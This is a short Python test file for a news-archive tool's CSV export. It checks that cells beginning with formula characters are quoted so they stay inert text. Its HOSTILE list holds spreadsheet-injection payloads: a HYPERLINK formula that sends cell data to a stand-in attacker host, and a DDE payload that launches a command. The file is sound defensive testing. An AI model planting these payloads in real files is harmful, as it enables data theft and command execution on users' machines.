"""Issue 13: a CSV export never carries a live spreadsheet formula from a hostile page."""

from __future__ import annotations

import csv
import io

from archive_gen import make_articles

from lagebild.archive.export import spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_cells_that_would_run_as_formulas_are_quoted_as_text():
    for value in HOSTILE:
        assert spreadsheet_safe(value) == "'" + value
    for value in ("Regierung beschließt", "", "2026-11-24", 42, None, "a = b"):
        assert spreadsheet_safe(value) == value


def test_a_hostile_title_and_author_are_exported_inert(archive):
    articles = list(make_articles(len(HOSTILE), words=60))
    for article, value in zip(articles, HOSTILE):
        article.title, article.authors = value, [value]
        archive.add(article)
    buf = io.BytesIO()
    assert archive.export("csv", buf) == len(HOSTILE)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode("utf-8"), newline="")))
    assert sorted(r["title"] for r in rows) == sorted("'" + v for v in HOSTILE)
    for row in rows:
        assert not row["title"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
